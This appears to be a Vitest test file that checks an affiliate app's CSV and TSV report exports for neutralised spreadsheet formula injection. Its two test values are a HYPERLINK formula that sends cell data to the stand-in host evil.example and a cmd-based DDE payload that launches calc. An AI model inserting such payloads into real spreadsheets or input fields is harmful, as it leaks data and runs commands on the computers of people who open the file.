import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeClick, makeNetwork, type Network, postback } from './helpers/conversions.js';
import { makePublisher } from './helpers/fixtures.js';
import { createTestApp, type TestApp } from './helpers/test-app.js';

// Issue 20, item 4: a publisher named =HYPERLINK(…) reached the custom report CSV as a formula.
// Every CSV/TSV we write goes through src/lib/spreadsheet.ts; these drive each export end to end.
let t: TestApp;
let net: Network;
const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const EVIL_SUB = "-2+3+cmd|' /C calc'!A0";
const day = '2026-06-01';

beforeAll(async () => {
  t = await createTestApp({ env: { TRUST_PROXY: '1' } });
  net = await makeNetwork(t);
  const evil = await makePublisher(t, net.token, { name: EVIL_NAME });
  const click = await makeClick(
    t,
    { offer: net.offer, publisher: evil },
    `&sub2=${encodeURIComponent(EVIL_SUB)}`,
  );
  const r = await postback(t, { click_id: click, status: 'approved', token: net.advertiser.postback_token });
  expect(r.status, r.text).toBe(200);
  await t.ctx.clickWriter.flush();
});
afterAll(() => t.close());

describe('spreadsheet exports never carry a formula', () => {
  it('custom report CSV: a publisher name and a sub id starting with = or - are written as text', async () => {
    const byPublisher = await t.call(
      'GET',
      `/api/admin/reports/custom?from=${day}&to=${day}&group_by=publisher&format=csv`,
      { token: net.token },
    );
    expect(byPublisher.status).toBe(200);
    const rows: string[][] = parse(byPublisher.text);
    const cells = rows.flat();
    expect(cells).toContain(`'${EVIL_NAME}`);
    expect(cells.some((c) => /^[=+@\t\r]/.test(c))).toBe(false);

    const bySub = await t.call(
      'GET',
      `/api/admin/reports/custom?from=${day}&to=${day}&group_by=sub2&format=csv`,
      {
        token: net.token,
      },
    );
    const subCells: string[] = (parse(bySub.text) as string[][]).flat();
    expect(subCells).toContain(`'${EVIL_SUB}`);
    expect(subCells).not.toContain(EVIL_SUB);
    // Amounts stay numbers.
    expect(subCells).toContain('10.00');
  });

  it('conversion statistics TSV: the publisher name is written as text', async () => {
    const r = await t.call(
      'GET',
      `/api/admin/reports/conversion-stats?from=${day}&to=${day}&group_by=publisher&format=tsv`,
      { token: net.token },
    );
    expect(r.status).toBe(200);
    const labels = r.text.split('\r\n').map((line) => line.split('\t')[0]);
    expect(labels).toContain(`'${EVIL_NAME}`);
    expect(labels.some((c) => c !== undefined && /^[=+\-@]/.test(c))).toBe(false);
  });
});
